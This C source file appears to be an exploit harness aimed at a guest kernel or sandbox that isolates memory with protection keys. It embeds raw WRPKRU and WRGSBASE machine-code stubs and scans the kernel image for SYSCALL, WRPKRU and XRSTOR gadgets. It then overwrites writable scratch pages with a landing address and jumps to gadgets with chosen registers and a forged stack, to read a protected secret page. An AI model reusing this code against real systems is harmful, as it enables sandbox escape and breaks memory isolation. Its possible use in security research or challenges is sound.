/* Finding the guest kernel, and seeing whether a page is open. */
#include "keys.h"

/* Where it is linked to, with what belongs to its gates before it. */
#define GATES 0x5f000000UL
#define IMAGE 0x60000000UL
#define IMAGE_END 0x61000000UL
#define MEMORY 0x7f8000000000UL
/* In struct aspace_cpu, where the address to go on with is what user code can write. */
#define SCRATCH_WORDS 8

const unsigned char open_keys[OPEN_KEYS] = { 0x31, 0xc0, 0x31, 0xc9, 0x31,
					     0xd2, 0x0f, 0x01, 0xef, 0xc3 };
const unsigned char set_gs[SET_GS] = { 0x48, 0x89, 0xf8, 0xf3, 0x48, 0x0f, 0xae, 0xd8, 0xc3 };

struct sites calls, pkru_writers, restorers;
unsigned long handler, writable[64], secret = MEMORY + 64 * PAGE;
int writable_count;

int is_broken(void)
{
	return is_readable(TARGET) || is_readable(secret);
}

static void add(struct sites *sites, const unsigned char *at)
{
	if (sites->count < SITES_MAX)
		sites->at[sites->count++] = (unsigned long)at;
}

static void look_at(const unsigned char *at)
{
	static const unsigned char begin[] = { 0xb8, 0x40, 0x55, 0x55, 0x55, 0xb9, 0, 0, 0,
					       0,    0xba, 0,	 0,    0,    0,	   0x0f };

	if (at[0] == 0x0f && at[1] == 0x05)
		add(&calls, at);
	if (at[0] == 0x0f && at[1] == 0x01 && at[2] == 0xef)
		add(&pkru_writers, at);
	if (at[0] == 0x48 && at[1] == 0x0f && at[2] == 0xae && at[3] == 0x29)
		add(&restorers, at);
	/* The gate has the same, behind the handler. */
	if (!handler && !memcmp(at, begin, sizeof(begin)))
		handler = (unsigned long)at;
}

void explore(void)
{
	unsigned long end = IMAGE + PAGE;

	while (is_readable(end))
		end += PAGE;
	for (unsigned long at = IMAGE + PAGE; at < end - 16; at++)
		look_at((void *)at);
	for (unsigned long at = IMAGE; at < IMAGE_END; at += PAGE)
		if (writable_count < 64 && is_writable(at))
			writable[writable_count++] = at;
}

void landing(void)
{
	_exit(is_readable(secret));
}

void redirect(void)
{
	for (int p = 0; p < writable_count; p++)
		for (int word = 0; word < SCRATCH_WORDS; word++)
			((unsigned long *)writable[p])[word] = (unsigned long)landing;
}

void jump(unsigned long at, unsigned long ax, unsigned long cx, unsigned long dx)
{
	static unsigned long stack[1024] __attribute__((aligned(64)));

	for (int i = 0; i < 1024; i++)
		stack[i] = (unsigned long)landing;
	__asm__ volatile("mov %[stack], %%rsp\n\tjmp *%%rbx"
			 :
			 : "a"(ax), "c"(cx), "d"(dx), "b"(at), [stack] "r"(&stack[512])
			 : "memory");
	__builtin_unreachable();
}
